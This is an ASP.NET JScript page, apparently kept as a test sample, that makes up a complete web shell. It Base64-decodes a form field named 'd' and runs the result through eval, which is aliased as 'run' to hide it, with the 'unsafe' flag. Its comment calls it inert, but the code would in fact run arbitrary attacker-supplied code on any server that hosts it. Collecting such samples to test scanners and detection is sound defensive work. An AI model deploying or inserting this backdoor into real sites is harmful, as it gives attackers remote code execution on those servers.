<%@ Page Language="JScript" Debug="false" %>
<script runat="server">
// inert test sample: eval kept in a variable of another name and called on a Base64 form field
function Page_Load() {
    var run = eval;
    var b = System.Convert.FromBase64String(Request.Form["d"]);
    run(System.Text.Encoding.UTF8.GetString(b), "unsafe");
}
</script>
